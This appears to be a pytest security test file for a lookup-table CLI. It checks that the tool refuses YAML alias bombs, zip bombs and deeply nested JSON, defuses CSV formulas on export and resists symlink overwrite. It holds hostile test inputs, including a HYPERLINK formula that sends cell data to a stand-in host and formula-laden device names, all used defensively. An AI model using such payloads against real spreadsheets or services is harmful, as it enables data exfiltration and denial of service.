"""Every file a user hands the host is bounded: small files that expand are refused before they expand,
exports defuse spreadsheet formulas, staging files are never someone else's, deep JSON is one line.

The bombs run in their own process (tests/security/_measure.py) so their cost is measured, and so a
regression costs that process, not the test run.
"""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from lut import DeviceSetting, LutStore, import_files
from lutnas.cli import app
from tests.conftest import SHARED_DATA

from ._bombs import yaml_alias_bomb, zip_bomb
from ._measure import run_measured

runner = CliRunner()
DATA = SHARED_DATA if SHARED_DATA is not None else Path("/nonexistent")
NOTE10_FILES = sorted((DATA / "ofa" / "note10").glob("*_lookup_table.yaml"))
KEY = "Conv-input:160x160x3-output:80x80x24"
ARCH = '{"ks": [3], "e": [3], "d": [2], "r": 160}'


def _one_line_exit_2(exit_code: int, output: str, *needles: str) -> str:
    assert exit_code == 2, (exit_code, output[:2000])
    lines = output.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in output, output[:2000]
    for needle in needles:
        assert needle in lines[0], lines[0][:1000]
    return lines[0]


# -- item 4: YAML ----------------------------------------------------------------------------------
def test_yaml_alias_bomb_is_refused_at_once(tmp_path: Path) -> None:
    """10**7 strings from 431 bytes: refused at the first anchor, in well under a second and 100 MB, one short line."""
    bomb = yaml_alias_bomb(tmp_path / "160_lookup_table.yaml", KEY)
    assert bomb.stat().st_size < 500
    got = run_measured(["lut", "import", str(bomb), "--db", str(tmp_path / "lut.db"), "--device", "x"],
                       preload=["lut.importers", "lutnas.commands.lut_cmds"])
    line = _one_line_exit_2(got.exit_code, got.output, "anchors and aliases")
    assert len(line) < 400, line
    assert got.seconds < 1.0 and got.peak_growth_mb < 100, got
    assert not (tmp_path / "lut.db").exists() or "x" not in _device_names(tmp_path / "lut.db")


def test_yaml_size_and_long_values_are_bounded(tmp_path: Path) -> None:
    from lut import MAX_YAML_BYTES

    big = tmp_path / "224_lookup_table.yaml"
    with big.open("wb") as fh:  # sparse: the size is all that is read
        fh.truncate(MAX_YAML_BYTES + 1)
    res = runner.invoke(app, ["lut", "import", str(big), "--db", str(tmp_path / "lut.db"), "--device", "x"])
    _one_line_exit_2(res.exit_code, res.stderr, "larger than", str(MAX_YAML_BYTES))
    # No alias, just a long value: the message quotes its start and says it was cut.
    long_value = tmp_path / "176_lookup_table.yaml"
    long_value.write_text(f"{KEY}: [{', '.join(['lol'] * 200_000)}]\n")
    res = runner.invoke(app, ["lut", "import", str(long_value), "--db", str(tmp_path / "lut.db"), "--device", "x"])
    line = _one_line_exit_2(res.exit_code, res.stderr, "expected a mapping", "['lol', 'lol'", "...")
    assert len(line) < 500, line


def _device_names(db: Path) -> list[str]:
    with LutStore(db) as store:
        return [s.name for s in store.settings()]


# -- item 5: CSV formulas ------------------------------------------------------------------------
FORMULAS = {"source": "=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "agent_version": "@SUM(1+1)",
            "measured_at": "+1+1"}
# A leading CR is defused too, but pandas' reader ends a line at a bare CR even in a cell, so no CSV brings one in.
OTHER_TEXT = ["-2+3", "\tTAB", "'=quoted in the source", "''@quoted twice", "plain", "'plain quote"]


def test_csv_export_defuses_formulas_and_round_trips(tmp_path: Path) -> None:
    rows = [{"block_key": KEY, "median_ms": 1.5, **FORMULAS, "temp_before_c": -3.5, "sentinel_drift": -0.25}]
    rows += [{"block_key": f"Conv-input:{r}x{r}x3-output:{r // 2}x{r // 2}x24", "median_ms": 1.0, "source": text,
              "temp_before_c": -1.0} for r, text in zip(range(176, 400, 16), OTHER_TEXT)]
    src = tmp_path / "in.csv"
    pd.DataFrame(rows).to_csv(src, index=False)
    db = tmp_path / "lut.db"
    device = 'evil,=HYPERLINK("http://x.test"),@x'  # the name lands in the metadata comment line
    res = runner.invoke(app, ["lut", "import", str(src), "--db", str(db), "--device", device])
    assert res.exit_code == 0, res.output
    out = tmp_path / "out.csv"
    res = runner.invoke(app, ["lut", "export", "--db", str(db), "--device", device, "--out", str(out)])
    assert res.exit_code == 0, res.output

    with out.open(newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _is_number(c))]
    assert "-3.5" in cells and "-0.25" in cells  # negative numbers stay numbers, unquoted
    assert "'=HYPERLINK(\"http://x.test/?\"&A1,\"click\")" in cells and "'@SUM(1+1)" in cells

    with LutStore(db) as store:
        before = store.rows(device)
    db2 = tmp_path / "back.db"
    res = runner.invoke(app, ["lut", "import", str(out), "--db", str(db2), "--device", device])
    assert res.exit_code == 0, res.output
    with LutStore(db2) as store:
        after = store.rows(device)
    cols = ["block_key", "median_ms", "source", "agent_version", "measured_at", "temp_before_c", "sentinel_drift"]
    pd.testing.assert_frame_equal(before[cols].reset_index(drop=True), after[cols].reset_index(drop=True))
    # The source's own quotes before a formula were read as an export's: one is gone, the rest survive a round trip.
    assert set(after["source"]) >= {"-2+3", "\tTAB", "=quoted in the source", "'@quoted twice", "'plain quote",
                                     FORMULAS["source"]}


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# -- item 6: archives ------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def torch_zip_bomb(tmp_path_factory) -> Path:
    """1.5 MB on disk, 1.5 GiB once its pickle is inflated; a torch archive in every other respect."""
    path = tmp_path_factory.mktemp("bomb") / "bomb.pt"
    return zip_bomb(path, 1536 << 20, others={"archive/version": b"3\n", "archive/byteorder": b"little"})


@pytest.mark.parametrize("command", ["predictor-eval", "supernet-eval"])
def test_zip_bomb_is_refused_before_inflating(command, torch_zip_bomb, tmp_path) -> None:
    assert torch_zip_bomb.stat().st_size < 2 << 20
    data = sorted((DATA / "dynast").glob("*linasga*.csv"))[:1]
    if not data:
        pytest.skip(f"DyNAS-T accuracy data not found under {DATA}")
    small = tmp_path / "acc.csv"  # a few rows: the command reads its data before the predictor
    small.write_text("".join(data[0].read_text().splitlines(keepends=True)[:4]))
    data = [small]
    argv, preload = {
        "predictor-eval": (["predictor", "eval", "--predictor", str(torch_zip_bomb), "--data", str(data[0])],
                           ["torch", "search", "lutnas.commands.search_cmds"]),
        "supernet-eval": (["supernet", "eval", "--checkpoint", str(torch_zip_bomb), "--arch", ARCH],
                          ["torch", "supernet", "lutnas.commands.supernet_cmds"]),
    }[command]
    got = run_measured(argv, preload)
    _one_line_exit_2(got.exit_code, got.output, "inflate")
    assert got.seconds < 1.0 and got.peak_growth_mb < 200, got


# -- item 9: staging files and deep JSON -----------------------------------------------------------
@pytest.mark.parametrize("out_name", ["out.csv", "out.parquet", "yaml_dir"])
def test_export_never_writes_through_a_planted_symlink(out_name: str, tmp_path: Path) -> None:
    db = tmp_path / "lut.db"
    with LutStore(db) as store:
        import_files(store, DeviceSetting("d", "unknown"), [_small_csv(tmp_path)])
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    out = tmp_path / out_name
    if out_name == "yaml_dir":
        out.mkdir()
        planted = [out / f".{name}.tmp" for name in ("160_lookup_table.yaml", "lutnas-setting.json")]
    else:
        planted = [tmp_path / f".{out_name}.tmp"]  # the name the export staged through before
    for link in planted:
        link.symlink_to(victim)
    res = runner.invoke(app, ["lut", "export", "--db", str(db), "--device", "d", "--out", str(out)])
    assert res.exit_code == 0, res.output
    assert victim.read_text() == "precious\n"
    written = [out] if out_name != "yaml_dir" else [out / "160_lookup_table.yaml", out / "lutnas-setting.json"]
    for path in written:
        assert path.is_file() and not path.is_symlink(), path
    assert all(link.is_symlink() for link in planted)
    assert not [p for p in out.parent.rglob("*.tmp") if not p.is_symlink()]  # no staging file left behind


def _small_csv(tmp_path: Path) -> Path:
    path = tmp_path / "small.csv"
    path.write_text(f"block_key,median_ms\n{KEY},1.25\n")
    return path


DEEP = "[" * 100_000 + "]" * 100_000


@pytest.fixture(scope="module")
def note10_db(tmp_path_factory) -> Path:
    if not NOTE10_FILES:
        pytest.skip(f"OFA's note10 LUT not found under {DATA}")
    db = tmp_path_factory.mktemp("lut") / "lut.db"
    with LutStore(db) as store:
        import_files(store, DeviceSetting("note10", "unknown"), NOTE10_FILES)
    return db


def test_deep_json_is_one_line_exit_2(note10_db: Path, tmp_path: Path) -> None:
    deep_file = tmp_path / "net.config"
    deep_file.write_text('{"blocks": ' + DEEP + "}")
    arch_file = tmp_path / "arch.json"
    arch_file.write_text(DEEP)
    cases = {
        "lut predict --arch": ["lut", "predict", "--db", str(note10_db), "--device", "note10", "--arch", DEEP],
        "lut predict --net-config": ["lut", "predict", "--db", str(note10_db), "--device", "note10",
                                     "--net-config", str(deep_file), "--resolution", "224"],
        "supernet eval --arch": ["supernet", "eval", "--checkpoint", str(tmp_path / "none.pt"),
                                 "--arch", '{"a":' * 50_000 + "1" + "}" * 50_000],
        "supernet extract --arch file": ["supernet", "extract", "--checkpoint", str(tmp_path / "none.pt"),
                                         "--arch", str(arch_file), "--out", str(tmp_path / "sub.pt")],
    }
    for name, argv in cases.items():
        res = runner.invoke(app, argv)
        assert res.exit_code == 2, (name, res.exit_code, res.output[-2000:], res.exception)
        _one_line_exit_2(res.exit_code, res.stderr, "nested deeper than")
